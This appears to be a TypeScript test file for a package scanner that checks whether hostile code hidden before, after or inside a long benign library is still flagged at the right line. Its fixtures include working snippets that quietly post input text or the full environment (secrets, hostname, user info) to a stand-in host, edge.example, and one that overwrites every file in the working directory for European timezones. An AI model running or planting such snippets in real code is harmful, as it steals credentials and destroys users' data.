import assert from 'node:assert/strict';
import { test } from 'node:test';
import { packageOf, PLAIN_PROFILE } from '#test/support/scan-package.js';
import type { Finding } from '../check.js';
import { RULES } from '../rules.js';
import { findingsThroughout, MOST_DIVIDED } from './large-scripts.js';
import { MOST_FINDINGS } from './report.js';
import { LARGEST_TOGETHER } from './together.js';

/** An honest library, longer than what is judged as one. */
const LIBRARY = Array.from({ length: 60 }, (_, at) => `function step${at}(list, seed) {\n  const out = [];\n  for (const each of list) out.push(each * ${at + 2} + seed);\n${'  seed = (seed * 31 + out.length) % 9973;\n'.repeat(20)}  return out;\n}`).join('\n');
const WRAPPED = `(function (root, factory) { factory(root) })(this, function (lib) {\n${LIBRARY}\nlib.step = step1;\n});`;

/** Grave findings in one script, with their places. */
function grave(script: string, path = 'a.js'): Finding[] {
  assert.ok(script.length > LARGEST_TOGETHER);
  const pkg = packageOf({ [path]: script }, { entry_points: [path] });
  return RULES.flatMap((rule) => findingsThroughout(rule, pkg, PLAIN_PROFILE)).filter(({ severity }) => severity === 'high' || severity === 'critical' || severity === 'block');
}

const HARM = {
  'quiet-data': 'exports.convert = (text) => { fetch("https://edge.example/v1", { method: "POST", body: text }).catch(() => {}); return text.trim() }',
  'data-leak': 'const os = require("os"); const https = require("https"); const r = https.request({ host: "edge.example", method: "POST" }); r.on("error", () => {}); r.end(JSON.stringify({ h: os.hostname(), u: os.userInfo(), e: process.env }))',
  'destroyed-files': 'const fs = require("fs"); const path = require("path"); if (Intl.DateTimeFormat().resolvedOptions().timeZone.startsWith("Europe/")) for (const name of fs.readdirSync(process.cwd())) fs.writeFileSync(path.join(process.cwd(), name), "peace")',
};

test('bad: harm that stands beside a library is the same harm, at its place', () => {
  for (const [rule, harm] of Object.entries(HARM)) {
    for (const [what, script] of Object.entries({ before: `${harm}\n;${WRAPPED}`, after: `${WRAPPED}\n${harm}`, inside: WRAPPED.replace('lib.step = step1;', `lib.step = step1;\nlib.more = function (exports) {\n${harm}\n};`) })) {
      const found = grave(script).find((finding) => finding.rule === rule);
      assert.ok(found, `${rule} ${what}`);
      assert.equal(found.file, 'a.js');
      assert.ok(script.split('\n')[found.line! - 1]!.includes(harm.slice(0, 40)), `${rule} ${what}: line ${found.line}`);
    }
  }
});

test('bad: an obfuscated part of a readable bundle', () => {
  const odd = `var _0x1a2b=['\\x6c\\x6f\\x67','\\x68\\x65\\x6c\\x6c\\x6f','\\x65\\x78\\x61\\x6d\\x70\\x6c\\x65','\\x77\\x6f\\x72\\x6c\\x64','\\x72\\x75\\x6e'];(function(_0x3c,_0x4d){var _0x5e=function(_0x6f){while(--_0x6f){_0x3c['push'](_0x3c['shift']())}};_0x5e(++_0x4d)}(_0x1a2b,0x1f4));var _0x7a=function(_0x8b,_0x9c){_0x8b=_0x8b-0x0;var _0xad=_0x1a2b[_0x8b];return _0xad};console[_0x7a('0x0')](_0x7a('0x1'));console[_0x7a('0x0')](_0x7a('0x2'));console[_0x7a('0x0')](_0x7a('0x3'));console[_0x7a('0x0')](_0x7a('0x4'));`;
  assert.ok(grave(`${WRAPPED}\n${odd}`).some(({ rule }) => rule === 'string-array'));
});

test('good: a library, a client that says where, and a bundle that stands for itself', () => {
  for (const code of ['', 'exports.send = async (url, text) => (await fetch(url, { method: "POST", body: text })).json()', 'const os = require("os"); exports.threads = () => os.cpus().length']) {
    assert.deepEqual(grave(`${WRAPPED}\n${code}`), [], code);
  }
});

test('the end of a script is judged first, and of a package no more than can be read in time', () => {
  const many = Array.from({ length: 3 }, (_, at) => WRAPPED.replaceAll('step', `s${at}tep`)).join('\n');
  const times = Math.ceil((MOST_DIVIDED * 1.2) / many.length);
  const large = Array.from({ length: times }, (_, at) => many.replaceAll('tep', `t${at}ep`)).join('\n');
  assert.ok(grave(`${large}\n${HARM['quiet-data']}`).some(({ rule }) => rule === 'quiet-data'));
});

test('what sections tell too much of is counted, the gravest first', () => {
  const parts = Array.from({ length: 60 }, (_, at) => `${LIBRARY.replaceAll('step', `s${at}tep`)}\n${`(function () { ${HARM['data-leak']} })();\n`.repeat(4)}`);
  const rule = RULES.find(({ id }) => id === 'data-leak')!;
  const found = findingsThroughout(rule, packageOf({ 'a.js': parts.join('\n') }, { entry_points: ['a.js'] }), PLAIN_PROFILE);
  assert.equal(found.length, MOST_FINDINGS + 1);
  assert.match(found.at(-1)!.message, /^and \d+ more of this kind$/);
});
